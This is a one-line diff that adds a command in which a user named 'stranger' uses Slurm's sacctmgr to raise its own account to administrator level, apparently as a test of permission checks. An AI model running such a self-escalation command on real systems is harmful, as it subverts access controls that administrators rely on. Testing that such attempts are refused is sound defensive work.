@@ -1,0 +1,1 @@
+as stranger sacctmgr -i modify user stranger set adminlevel=administrator
